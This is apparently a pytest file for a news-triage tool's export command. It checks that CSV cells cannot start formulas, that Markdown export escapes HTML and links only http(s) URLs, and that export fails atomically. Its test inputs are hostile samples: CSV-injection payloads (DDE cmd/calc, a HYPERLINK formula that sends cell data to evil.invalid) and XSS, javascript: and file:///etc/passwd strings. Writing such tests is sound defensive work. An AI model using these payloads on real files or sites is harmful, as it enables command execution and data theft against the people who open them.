"""Exports an editor opens in a spreadsheet or a Markdown viewer run nothing.

CSV cells that start like a formula are neutralised (OWASP CSV injection);
Markdown escapes titles and links only http(s) URLs, angle-bracketed and
percent-encoded, so no text can close a link or open a tag.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from pathlib import Path

from triage.core.desk import Desk
from triage.core.models import Story

FORMULAS = [
    '=HYPERLINK("http://evil.invalid/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


def _store(desk_dir: Path, rows: list[tuple[str, str, str]]) -> None:
    desk = Desk(desk_dir)
    try:
        for n, (title, url, source) in enumerate(rows):
            story = Story(
                id=f"x{n}",
                title=title,
                url=url,
                source=source,
                published=datetime(2024, 5, 1, 12, n, tzinfo=UTC),
                body=f"Harbour body {n}.",
            )
            desk.store.upsert_story(story, f"url:test{n}", f"h{n}")
    finally:
        desk.close()


def test_csv_cells_never_start_a_formula(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    rows = [
        (f"T{n} {f}" if n % 2 else f, "https://example.org/" + str(n), f)
        for n, f in enumerate(FORMULAS)
    ]
    rows.append(("=1+1", "=1+1", "@x"))
    _store(cli.index, rows)
    out = tmp_path / "r.csv"
    done = cli("export", "--format", "csv", "-o", str(out))
    assert done.status == 0, done.err
    cells = [c for row in csv.reader(io.StringIO(out.read_text(), newline="")) for c in row]
    assert len(cells) > 7 * 7
    for cell in cells:
        assert not cell.lstrip(" \n").startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert any(c.startswith("'=HYPERLINK") for c in cells)  # kept, as text


def test_markdown_escapes_titles_and_links_only_http(cli) -> None:  # type: ignore[no-untyped-def]
    _store(
        cli.index,
        [
            ("<img src=x onerror=alert(1)> harbour", "https://example.org/a", "Out<b>let"),
            ("Closing link", "https://example.org/a)<script>alert(1)</script>", "S"),
            ("Script link", "javascript:alert(1)", "S"),
            ("File link", "file:///etc/passwd", "S"),
            ("Space link", "https://example.org/a b> <script>", "S"),
            ("[x](javascript:alert(1)) **bold** `code`", "https://example.org/b", "S"),
        ],
    )
    done = cli("export", "--format", "md")
    assert done.status == 0, done.err
    md = done.out
    assert "<img" not in md and "<script" not in md and "<b>" not in md
    # every link target Markdown would see (an unescaped "](") is an http(s) one
    for target in re.findall(r"(?<!\\)\]\((.{0,12})", md):
        assert target.startswith(("<https://", "<http://")), target
    assert "file:" not in md
    links = re.findall(r"\]\((.*?)\)\s*$", md, re.M)
    assert links, md
    for link in links:
        assert re.fullmatch(r"<https?://[!-~]+>", link), link
        assert not re.search(r"[<>\s()]", link[1:-1]), link
    assert "](<https://example.org/a%29%3Cscript%3Ealert%281%29%3C/script%3E>)" in md
    assert "## Script link" in md  # a story without a safe link keeps its title, unlinked


def test_export_replaces_its_target_whole_or_not_at_all(cli, tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    import errno
    import os

    _store(cli.index, [(f"Harbour story {n}", f"https://example.org/{n}", "S") for n in range(5)])
    target = tmp_path / "out" / "rundown.md"
    target.parent.mkdir()
    target.write_text("the previous rundown\n" * 1000)
    before = target.read_text()

    def disk_full(fd: int) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "fsync", disk_full)
    done = cli("export", "-o", str(target))
    assert done.status == 1
    assert "No space left" in done.err
    assert target.read_text() == before  # the good file was not truncated
    assert sorted(p.name for p in target.parent.iterdir()) == ["rundown.md"]  # no debris
    monkeypatch.undo()
    done = cli("export", "-o", str(target))
    assert done.status == 0, done.err
    assert "Harbour story 4" in target.read_text()


def test_export_says_when_it_stops_at_its_limit(cli, capsys) -> None:  # type: ignore[no-untyped-def]
    import pytest

    from triage.cli.main import main

    _store(cli.index, [(f"Harbour story {n}", f"https://example.org/{n}", "S") for n in range(5)])
    done = cli("export", "--limit", "2", "--format", "json")
    assert done.status == 0
    assert "2 of 5" in done.err and "--limit" in done.err
    assert "2 of" not in cli("export", "--format", "json").err
    with pytest.raises(SystemExit):
        main(["export", "--help"])
    assert "default: 1000" in capsys.readouterr().out
